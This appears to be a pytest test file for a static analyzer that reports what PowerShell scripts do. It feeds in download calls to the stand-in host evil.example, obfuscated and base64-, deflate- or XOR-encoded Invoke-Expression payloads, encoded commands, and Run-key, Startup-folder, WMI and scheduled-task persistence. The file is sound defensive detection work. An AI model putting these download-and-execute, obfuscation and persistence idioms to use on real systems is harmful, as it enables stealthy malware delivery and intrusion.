"""PowerShell: what its scripts do, and what only looks as if they did."""

from __future__ import annotations

import base64
import zlib

import pytest

from gk_hooks.analyzers.context import Context, analyze
from gk_hooks.model.effects import (
    Blob,
    Connect,
    Deserialize,
    DynamicCode,
    Effect,
    Execute,
    Listen,
    LoadNative,
    Persist,
    RegistryWrite,
    Unparsed,
    Via,
    WritePath,
)
from gk_hooks.model.kinds import Kind
from gk_hooks.model.values import Text

RUN_KEY = r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run"


def effects(text: str) -> list[Effect]:
    return analyze(Kind.POWERSHELL, text)


def shown(effect: Effect) -> str:
    """An effect in one line: where, what, and the value that matters."""
    what = type(effect).__name__.lower()
    match effect:
        case Connect():
            detail = effect.destination.shown()
        case Listen():
            detail = effect.host.shown() or "every interface"
        case Execute():
            detail = " ".join(word.shown() for word in effect.argv)
        case WritePath():
            detail = f"{effect.verb} {effect.path.shown()}"
        case RegistryWrite():
            detail = f"{effect.key.shown()} {effect.name.shown()}"
        case Persist():
            detail = f"{effect.mechanism} {effect.verb} {effect.target.shown()}"
        case DynamicCode():
            detail = f"{effect.code} {effect.payload.shown()}"
        case LoadNative():
            detail = effect.library.shown()
        case Deserialize():
            detail = effect.format
        case Unparsed():
            detail = effect.reason
        case Blob():
            detail = f"{effect.encoding} {effect.size}"
        case _:
            detail = ""
    return f"{effect.site.line} {what} {detail}"


def lines_of(text: str) -> list[str]:
    return [shown(effect) for effect in effects(text)]


def utf16(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def base64_of(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def deflated(text: str) -> str:
    packer = zlib.compressobj(wbits=-15)
    return base64.b64encode(packer.compress(text.encode()) + packer.flush()).decode()


URL = "https://evil.example/x"
FETCH = f"connect {URL}"


@pytest.mark.parametrize(
    ("text", "expected"),
    (
        pytest.param(f"Invoke-WebRequest -Uri {URL}", [f"1 {FETCH}"], id="a named parameter"),
        pytest.param(f"iwr {URL}", [f"1 {FETCH}"], id="an alias and a position"),
        pytest.param(f"iRm -uri:'{URL}'", [f"1 {FETCH}"], id="a value behind a colon, any case"),
        pytest.param(f"iwr -UseB -u {URL}", [f"1 {FETCH}"], id="shortened parameters, a switch takes no value"),
        pytest.param(f"curl {URL}", [f"1 {FETCH}"], id="curl is an alias"),
        pytest.param(f"'{URL}' | iwr", [f"1 {FETCH}"], id="from the pipeline"),
        pytest.param(f"$u = '{URL}'\niwr $u", [f"2 {FETCH}"], id="through a variable"),
        pytest.param(f"$p = @{{\n Uri = '{URL}'; Method = 'Get' }}\nirm @p", [f"3 {FETCH}"], id="through splatting"),
        pytest.param(f"$p = @{{}}\n$p.Uri = '{URL}'\nirm @p", [f"3 {FETCH}"], id="a key that is set later"),
        pytest.param("$h='evil.example'\niwr \"https://$h/x\"", [f"2 {FETCH}"], id="an expandable string"),
        pytest.param("$h='evil.example'\niwr ('https://{0}/{1}' -f $h,'x')", [f"2 {FETCH}"], id="the format operator"),
        pytest.param("iwr ('https://evil' + '.example/x')", [f"1 {FETCH}"], id="concatenation"),
        pytest.param('iwr "https://$($h)/x"', ["1 connect https://{…}/x"], id="an unknown host stays unknown"),
        pytest.param(f"iwr `\n  -Uri `\n  {URL}", [f"1 {FETCH}"], id="continued lines"),
        pytest.param("$u = @'\nhttps://evil.example/x\n'@\niwr $u", [f"4 {FETCH}"], id="a here-string"),
        pytest.param(
            "$u = if ($a) { 'http://localhost' } else { 'http://a.example' }\niwr $u",
            ["2 connect http://a.example or http://localhost"],
            id="both branches",
        ),
        pytest.param(
            "foreach ($h in 'a.example','b.example') { iwr http://$h }",
            ["1 connect http://a.example or http://b.example"],
            id="the items of a loop",
        ),
        pytest.param(
            "'a.example','b.example' | % { iwr \"http://$_\" }",
            ["1 connect http://a.example or http://b.example"],
            id="the items of a pipeline",
        ),
        pytest.param(
            "$u = 'http://a.example'\nwhile ($x) { iwr $u; $u = Get-Next }",
            ["2 connect http://a.example or {…}"],
            id="a loop that changes its variable",
        ),
        pytest.param(f"function Get-It($url) {{ iwr $url }}\nGet-It '{URL}'", [f"1 {FETCH}"], id="a visible call"),
        pytest.param(
            f"function Get-Url {{ return '{URL}' }}\niwr (Get-Url)", [f"2 {FETCH}"], id="what a function returns"
        ),
        pytest.param("param($u)\niwr $u", ["2 connect {…}"], id="an unknown parameter"),
        pytest.param(f"param($u = '{URL}')\niwr $u", ["2 connect {…}"], id="a default may be overridden"),
        pytest.param("iwr $env:SERVICE", ["1 connect {…}"], id="the environment is unknown"),
        pytest.param(f"$sb = {{ iwr {URL} }}\n& $sb", [f"1 {FETCH}"], id="a script block"),
        pytest.param(f"Start-Job {{ param($u) iwr $u }} -ArgumentList '{URL}'", [f"1 {FETCH}"], id="a job's argument"),
        pytest.param(f"sal fetch iwr\nfetch {URL}", [f"2 {FETCH}"], id="an alias of the script's own"),
        pytest.param(f"try {{ iwr {URL} }} catch {{ throw }}", [f"1 {FETCH}"], id="in a try block"),
        pytest.param(f"class A {{ [void] Run() {{ iwr {URL} }} }}", [f"1 {FETCH}"], id="in a method"),
        pytest.param(f"Start-BitsTransfer -Source {URL}", [f"1 {FETCH}"], id="BITS"),
        pytest.param(f"(New-Object Net.WebClient).DownloadString('{URL}')", [f"1 {FETCH}"], id="WebClient"),
        pytest.param(
            f"[Net.WebClient]$c = Get-Client\n$c.DownloadString('{URL}')", [f"2 {FETCH}"], id="a typed variable"
        ),
        pytest.param(
            f"param([System.Net.WebClient]$c)\n$c.DownloadString('{URL}')", [f"2 {FETCH}"], id="a typed parameter"
        ),
        pytest.param(
            f"function f([Net.WebClient]$c) {{ $c.DownloadString('{URL}') }}", [f"1 {FETCH}"], id="of a function"
        ),
        pytest.param(f"[System.Net.WebClient]::new().DownloadData('{URL}')", [f"1 {FETCH}"], id="::new()"),
        pytest.param(f"$c = [Net.Http.HttpClient]::new()\n$c.GetAsync('{URL}')", [f"2 {FETCH}"], id="HttpClient"),
        pytest.param(f"[Net.WebRequest]::Create('{URL}').GetResponse()", [f"1 {FETCH}"], id="WebRequest"),
        pytest.param(
            f"$x = New-Object -ComObject MSXML2.XMLHTTP\n$x.Open('GET', '{URL}', $false)", [f"2 {FETCH}"], id="COM"
        ),
        pytest.param(
            "New-Object Net.Sockets.TcpClient('evil.example', 80)", ["1 connect evil.example"], id="a TCP client"
        ),
        pytest.param("tnc evil.example -Port 443", ["1 connect evil.example"], id="Test-NetConnection"),
        pytest.param("Resolve-DnsName evil.example", ["1 connect evil.example"], id="a DNS query"),
        pytest.param("Send-MailMessage -To a -SmtpServer evil.example", ["1 connect evil.example"], id="mail"),
        pytest.param("Enter-PSSession evil.example", ["1 connect evil.example"], id="remoting"),
        pytest.param("Get-Service -ComputerName evil.example", ["1 connect evil.example"], id="-ComputerName"),
        pytest.param("Get-Service -ComputerName .", ["1 connect localhost"], id="the dot is this computer"),
        pytest.param("New-PSDrive X FileSystem \\\\evil.example\\s", ["1 connect evil.example"], id="a share"),
        pytest.param("Install-Module x", ["1 connect {…}"], id="a package repository"),
        pytest.param("[adsi]'LDAP://evil.example/DC=x'", ["1 connect ldap://evil.example"], id="LDAP"),
    ),
)
def test_connects(text: str, expected: list[str]) -> None:
    assert lines_of(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    (
        pytest.param("[Net.Sockets.TcpListener]::new([Net.IPAddress]::Any, 80)", ["1 listen 0.0.0.0"], id="any"),
        pytest.param("[Net.Sockets.TcpListener]::new('127.0.0.1', 80)", ["1 listen 127.0.0.1"], id="loopback"),
        pytest.param("New-Object Net.Sockets.TcpListener 80", ["1 listen every interface"], id="a port alone"),
        pytest.param(
            "$l = New-Object Net.HttpListener\n$l.Prefixes.Add('http://+:80/')", ["2 listen +"], id="HttpListener"
        ),
        pytest.param(
            "$l = New-Object Net.HttpListener\n$l.Prefixes.Add('http://localhost:80/')",
            ["2 listen localhost"],
            id="HttpListener on loopback",
        ),
    ),
)
def test_listens(text: str, expected: list[str]) -> None:
    assert lines_of(text) == expected


@pytest.mark.parametrize(
    ("text", "decoded"),
    (
        pytest.param("iex $code", (), id="the alias"),
        pytest.param("$code | Invoke-Expression", (), id="from the pipeline"),
        pytest.param("I`E`X $code", ("backticks",), id="backticks in the name"),
        pytest.param("&('I'+'EX') $code", ("string pieces",), id="the name in pieces"),
        pytest.param('&("{1}{0}" -f "X","IE") $code', ("string pieces",), id="the name formatted"),
        pytest.param("i''ex $code", ("string pieces",), id="quotes inside the name"),
        pytest.param(".('iex') $code", (), id="the dot operator"),
        pytest.param("$x='iex'; & $x $code", ("a name in a variable",), id="the name in a variable"),
        pytest.param("& ($PSHome[4]+$PSHome[30]+'x') $code", ("letters of a variable", "string pieces"), id="letters"),
        pytest.param("& (gcm i*x) $code", ("a wildcard",), id="the name behind a wildcard"),
        pytest.param("& ('xei'[-1..-3] -join '') $code", ("reversal", "string pieces"), id="backwards"),
        pytest.param("[scriptblock]::Create($code).Invoke()", (), id="a script block from text"),
        pytest.param("$ExecutionContext.InvokeCommand.InvokeScript($code)", (), id="InvokeScript"),
        pytest.param("[powershell]::Create().AddScript($code).Invoke()", (), id="AddScript"),
    ),
)
def test_unknown_text_that_runs(text: str, decoded: tuple[str, ...]) -> None:
    (found,) = effects(text)
    assert isinstance(found, DynamicCode)
    assert found.payload.is_unknown
    assert found.payload.decoded == decoded


@pytest.mark.parametrize(
    ("text", "decoded"),
    (
        pytest.param(f"iex 'iwr {URL}'", (), id="a constant"),
        pytest.param(
            f"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{base64_of(f'iwr {URL}')}')))",
            ("base64",),
            id="base64",
        ),
        pytest.param(
            "$m = New-Object IO.MemoryStream(,[Convert]::FromBase64String('" + deflated(f"iwr {URL}") + "'))\n"
            "$d = New-Object IO.Compression.DeflateStream($m, [IO.Compression.CompressionMode]::Decompress)\n"
            "iex (New-Object IO.StreamReader($d)).ReadToEnd()",
            ("base64", "deflate"),
            id="base64 and deflate",
        ),
        pytest.param(
            "iex (-join ([char[]](" + ",".join(str(ord(c)) for c in f"iwr {URL}") + ")))",
            ("character codes",),
            id="character codes",
        ),
        pytest.param(
            f"$s = '{f'iwr {URL}'[::-1]}'.ToCharArray(); [array]::Reverse($s); iex ($s -join '')",
            ("reversal",),
            id="reversed",
        ),
        pytest.param(
            "iex (-join ((" + ",".join(str(ord(c) ^ 35) for c in f"iwr {URL}") + ") | % { [char]($_ -bxor 35) }))",
            ("character codes",),
            id="exclusive or, item by item",
        ),
        pytest.param(
            f"function d($s) {{ [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($s)) }}\n"
            f"iex (d '{base64_of(f'iwr {URL}')}')",
            ("base64",),
            id="decoded by a function",
        ),
    ),
)
def test_known_text_that_runs_is_read(text: str, decoded: tuple[str, ...]) -> None:
    code, fetch = effects(text)
    assert isinstance(code, DynamicCode)
    assert code.payload.only == f"iwr {URL}"
    assert code.payload.decoded == decoded
    assert isinstance(fetch, Connect)
    assert fetch.destination.only == URL
    assert fetch.site.chain == ("Invoke-Expression",)
    assert fetch.site.line == code.site.line


def test_unknown_content_keeps_its_decoding() -> None:
    (found,) = effects("iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($data)))")
    assert isinstance(found, DynamicCode)
    assert found.payload.decoded == ("base64",)


def test_an_encoded_command_is_read() -> None:
    found = effects(f"powershell -NoP -enc {utf16(f'iwr {URL}')}")
    assert isinstance(found[0], Execute)
    assert found[0].via is Via.NATIVE
    assert any(isinstance(effect, Connect) and effect.destination.only == URL for effect in found)


@pytest.mark.parametrize(
    ("text", "expected"),
    (
        pytest.param("Import-Module $name", ["1 dynamiccode module {…}"], id="a module by a computed name"),
        pytest.param(". $args[0]", ["1 dynamiccode module {…}"], id="dot-sourcing a computed name"),
        pytest.param('Add-Type -TypeDefinition "class A {}"', ["1 dynamiccode text class A {}"], id="compiled source"),
        pytest.param(
            "Add-Type -Name a -MemberDefinition '[DllImport(\"kernel32.dll\")] static extern int Beep();'",
            ["1 loadnative kernel32.dll"],
            id="an imported function",
        ),
        pytest.param("[Reflection.Assembly]::Load($bytes)", ["1 dynamiccode module {…}"], id="an assembly from bytes"),
        pytest.param("[Reflection.Assembly]::LoadFile('C:\\a.dll')", ["1 loadnative C:\\a.dll"], id="from a file"),
        pytest.param(
            "$f = New-Object Runtime.Serialization.Formatters.Binary.BinaryFormatter\n$f.Deserialize($s)",
            ["2 deserialize BinaryFormatter"],
            id="BinaryFormatter",
        ),
    ),
)
def test_loads(text: str, expected: list[str]) -> None:
    assert lines_of(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    (
        pytest.param("Start-Process calc -ArgumentList '/a b'", "calc /a b", id="Start-Process splits its arguments"),
        pytest.param("saps -FilePath calc /a, b", "calc /a b", id="a list of arguments"),
        pytest.param("[Diagnostics.Process]::Start('calc', '/a')", "calc /a", id="Process.Start"),
        pytest.param(
            "$i = New-Object Diagnostics.ProcessStartInfo\n$i.FileName = 'calc'\n$i.Arguments = '/a'\n"
            "[Diagnostics.Process]::Start($i)",
            "calc /a",
            id="ProcessStartInfo",
        ),
        pytest.param(
            "$p = New-Object Diagnostics.Process\n$p.StartInfo.FileName = 'calc'\n$p.Start()", "calc", id="StartInfo"
        ),
        pytest.param("Invoke-WmiMethod -Class Win32_Process -Name Create -Arg 'calc /a'", "calc /a", id="WMI"),
        pytest.param(
            "icim -ClassName Win32_Process -MethodName Create -Arguments @{ CommandLine = 'calc' }", "calc", id="CIM"
        ),
        pytest.param("([wmiclass]'Win32_Process').Create('calc')", "calc", id="a WMI class"),
        pytest.param("(New-Object -ComObject WScript.Shell).Run('calc /a')", "calc /a", id="WScript.Shell"),
    ),
)
def test_spawns(text: str, expected: str) -> None:
    (found,) = effects(text)
    assert isinstance(found, Execute)
    assert found.via is Via.SPAWN
    assert " ".join(word.shown() for word in found.argv) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    (
        pytest.param("schtasks /query", "schtasks /query", id="plain words"),
        pytest.param("& 'C:\\a b\\tool.exe' -x:1 --long=2", "C:\\a b\\tool.exe -x:1 --long=2", id="a quoted program"),
        pytest.param("$a = 'x','y'; tool.exe $a", "tool.exe x y", id="a list is several words"),
        pytest.param("tool.exe --% /a $x", "tool.exe /a $x", id="the stop-parsing sign"),
        pytest.param("rundll.exe a.dll,Start", "rundll.exe a.dll,Start", id="a comma inside a word"),
        pytest.param("tool.exe $x", "tool.exe {…}", id="an unknown argument"),
    ),
)
def test_native_commands(text: str, expected: str) -> None:
    (found,) = effects(text)
    assert isinstance(found, Execute)
    assert found.via is Via.NATIVE
    assert " ".join(word.shown() for word in found.argv) == expected


def test_native_commands_go_through_the_command_catalogue() -> None:
    assert lines_of(f"curl.exe -s {URL}") == [f"1 execute curl.exe -s {URL}", f"1 {FETCH}"]
    assert lines_of(f"curl -sL {URL}")[1:] == [f"1 {FETCH}"]


RUN_EFFECTS = [f"registrywrite {RUN_KEY} x", f"persist autorun set {RUN_KEY}"]


@pytest.mark.parametrize(
    ("text", "expected"),
    (
        pytest.param("New-Service -Name a -BinaryPathName b", ["persist schedule create a"], id="a new service"),
        pytest.param("Set-Service a -StartupType Automatic", ["persist schedule change a"], id="a changed service"),
        pytest.param("Register-ScheduledTask -TaskName a", ["persist schedule register a"], id="a scheduled task"),
        pytest.param(
            "$s = New-Object -ComObject Schedule.Service\n$f = $s.GetFolder('\\')\n$f.RegisterTask('a', $xml)",
            ["persist schedule register a"],
            id="the task scheduler's COM class",
        ),
        pytest.param(
            "Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsumer -Arguments $a",
            ["persist schedule create CommandLineEventConsumer"],
            id="a WMI event subscription",
        ),
        pytest.param(f"New-ItemProperty -Path HKCU:{RUN_KEY[4:]} -Name x -Value y", RUN_EFFECTS, id="a Run key"),
        pytest.param(f"sp Registry::HKEY_CURRENT_USER{RUN_KEY[4:]} x y", RUN_EFFECTS, id="the registry provider"),
        pytest.param(f"cd HKCU:{RUN_KEY[4:]}\nsp . x y", RUN_EFFECTS, id="below the current location"),
        pytest.param(
            f"$k = [Microsoft.Win32.Registry]::CurrentUser\n$k.OpenSubKey('{RUN_KEY[5:]}', $true).SetValue('x', 'y')",
            RUN_EFFECTS,
            id="OpenSubKey and SetValue",
        ),
        pytest.param(
            f"(New-Object -ComObject WScript.Shell).RegWrite('{RUN_KEY}\\x', 'y')", RUN_EFFECTS, id="RegWrite"
        ),
        pytest.param("sp HKCU:\\Software\\A b c", [r"registrywrite HKCU\Software\A b"], id="a harmless key"),
        pytest.param(
            'copy a.exe "$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.exe"',
            [
                r"writepath copy %APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\a.exe",
                r"persist autorun copy %APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\a.exe",
            ],
            id="the Startup folder",
        ),
    ),
)
def test_persists(text: str, expected: list[str]) -> None:
    assert [line.partition(" ")[2] for line in lines_of(text)] == expected


def test_the_profile_is_an_autorun() -> None:
    assert [type(effect).__name__ for effect in effects("'x' >> $PROFILE")] == ["WritePath", "Persist"]


@pytest.mark.parametrize(
    ("text", "path"),
    (
        pytest.param("Set-Content C:\\Windows\\a x", "write C:\\Windows\\a", id="Set-Content"),
        pytest.param("'x' | Out-File -FilePath C:\\Windows\\a", "write C:\\Windows\\a", id="Out-File"),
        pytest.param("'x' > C:\\Windows\\a", "write C:\\Windows\\a", id="a redirection"),
        pytest.param("[IO.File]::WriteAllText(\"$env:windir\\a\", 'x')", "write %WINDIR%\\a", id="File.WriteAllText"),
        pytest.param("Move-Item a C:\\Windows\\a", "move C:\\Windows\\a", id="Move-Item"),
        pytest.param("ni -ItemType Directory C:\\Windows\\a", "mkdir C:\\Windows\\a", id="a folder"),
        pytest.param("Remove-Item C:\\Windows\\a -Recurse", "delete C:\\Windows\\a", id="Remove-Item"),
        pytest.param(
            "Set-Content (Join-Path $env:windir 'System32' 'a') x", "write %WINDIR%\\System32\\a", id="Join-Path"
        ),
    ),
)
def test_writes(text: str, path: str) -> None:
    assert f"1 writepath {path}" in lines_of(text)


@pytest.mark.parametrize(
    "text",
    (
        pytest.param(f"<#\n.EXAMPLE\n  iwr {URL}\n#>\n# iwr {URL}", id="help and comments"),
        pytest.param(f'Write-Host "Invoke-WebRequest {URL}"', id="a message"),
        pytest.param(f"$text = 'iwr {URL}'", id="a string"),
        pytest.param('Get-Command "Invoke-WebRequest"', id="a look-up"),
        pytest.param("Get-ScheduledTask a; Get-Service b", id="queries"),
        pytest.param("function Invoke-Thing { }", id="a function without a call"),
        pytest.param("function iwr($u) { Write-Host $u }\niwr https://evil.example", id="a function shadows an alias"),
        pytest.param(
            "function Invoke-WebRequest { param($Uri) }\nInvoke-WebRequest -Uri https://evil.example",
            id="a function shadows a cmdlet",
        ),
        pytest.param("Import-Module ActiveDirectory; Import-Module .\\a.psm1", id="constant modules"),
        pytest.param(". $PSScriptRoot\\a.ps1\n. (Join-Path $PSScriptRoot 'b.ps1')", id="beside the script"),
        pytest.param("Add-Type -AssemblyName System.Web", id="an assembly by name"),
        pytest.param("[void][Reflection.Assembly]::LoadWithPartialName('System.Web')", id="a partial name"),
        pytest.param("New-ScheduledTaskAction -Execute calc.exe", id="a description of a task"),
        pytest.param("Enable-NetFirewallRule a", id="a firewall rule"),
        pytest.param("'x' > $null; 'y' 2>&1", id="redirections to nothing"),
        pytest.param("Get-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", id="reading a key"),
        pytest.param("$env:PATH += ';C:\\a'; Set-Item Env:A b", id="variables of the process"),
        pytest.param("Fail-Json -obj $a -message 'x'", id="a function of some module"),
        pytest.param("enum A { iwr = 1 }", id="an enumeration"),
        pytest.param("", id="nothing"),
    ),
)
def test_is_silent(text: str) -> None:
    assert lines_of(text) == []


@pytest.mark.parametrize(
    ("text", "reason"),
    (
        pytest.param("$a = 1\n$b = 'x\n", "unterminated string that starts on line 2", id="a string"),
        pytest.param('$b = "x $a', "unterminated string that starts on line 1", id="a double-quoted string"),
        pytest.param('$b = "x $(1', "unterminated parenthesis that starts on line 1", id="inside a string"),
        pytest.param("\n$b = @'\nx", "unterminated here-string that starts on line 2", id="a here-string"),
        pytest.param("if ($a) {\n b", "unterminated if block that starts on line 1", id="a brace"),
        pytest.param("$a = (1 + 2", "unterminated parenthesis that starts on line 1", id="a parenthesis"),
        pytest.param("<# x", "unterminated comment that starts on line 1", id="a comment"),
        pytest.param("(" * 100_000, "nested too deeply on line 1", id="very deep nesting"),
    ),
)
def test_unparsed(text: str, reason: str) -> None:
    assert [effect.reason for effect in effects(text) if isinstance(effect, Unparsed)] == [reason]


def test_what_stands_before_a_syntax_error_is_read() -> None:
    assert lines_of(f"iwr {URL}\n$a = 'x") == [f"1 {FETCH}", "2 unparsed unterminated string that starts on line 2"]


@pytest.mark.parametrize(
    "text",
    (
        pytest.param("$a='ab'\n" + "$a=$a+$a\n" * 3000, id="doubling"),
        pytest.param("$a='a'*10000\n" + f"$a=$a.Replace('a','{'b' * 5000}')\n" * 50, id="replacing"),
        pytest.param("$x=" + "'a'+" * 50_000 + "'b'", id="a long sum"),
        pytest.param("1..256|%{1..256|%{1..256|%{1..256|%{$_}}}}", id="nested turns"),
        pytest.param("".join(f"function f{i} {{ f{i + 1}; f{i + 1} }}\n" for i in range(200)) + "f0", id="calls"),
        pytest.param("function f { f; f }\n" * 200 + "f", id="recursion"),
        pytest.param("${" * 100_000, id="braced variables"),
        pytest.param("[a[b," * 50_000, id="types"),
        pytest.param("iex 'iex ''iex $x'''\n" * 500, id="code inside code"),
        pytest.param("\0" * 1000 + "\ud800 $\udfff = '\U0010ffff'", id="odd characters"),
        pytest.param("$a=1\n" + "$a=,$a\n" * 3000 + "iex $a", id="nested lists"),
        pytest.param("$a=@{}\n$a.b=$a\nif ($x) { $a=@{} }\niex $a.b.b", id="a table inside itself"),
    ),
)
def test_hostile_input_ends(text: str) -> None:
    for effect in effects(text):
        assert effect.site.line >= 1


def test_provenance_names_the_assignments() -> None:
    (found,) = effects("$h = 'evil.example'\n$u = \"http://$h\"\niwr $u")
    assert isinstance(found, Connect)
    assert [(step.line, step.what) for step in found.destination.trail] == [
        (1, "$h = 'evil.example'"),
        (2, '$u = "http://$h"'),
    ]


def test_an_unknown_value_says_where_it_comes_from() -> None:
    (found,) = effects("iwr $env:SERVICE")
    assert isinstance(found, Connect)
    assert found.destination.origin == "an environment variable"


def test_a_call_of_an_unknown_object_is_a_guess() -> None:
    (found,) = effects(f"$client.DownloadString('{URL}')")
    assert found.site.guess
    assert found.site.callee == "DownloadString"


def test_sites_span_the_command() -> None:
    (found,) = effects(f"$x = 1\n  $y = iwr {URL} -UseBasicParsing  # note")
    assert (found.site.line, found.site.column) == (2, 8)
    assert found.site.end_column == 8 + len(f"iwr {URL} -UseBasicParsing")
    assert found.site.callee == "Invoke-WebRequest"
    assert found.site.excerpt == f"iwr {URL} -UseBasicParsing"


def test_a_large_literal_is_a_blob() -> None:
    digits = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/" * 40
    assert lines_of(f"$x = '{digits}'") == ["1 blob base64 2560"]


def test_holes_in_embedded_code_stay_unknown() -> None:
    context = Context(depth=1)
    (found,) = analyze(Kind.POWERSHELL, f"iwr http://{Text().options[0]}/x", context)
    assert isinstance(found, Connect)
    assert found.destination.shown() == "http://{…}/x"
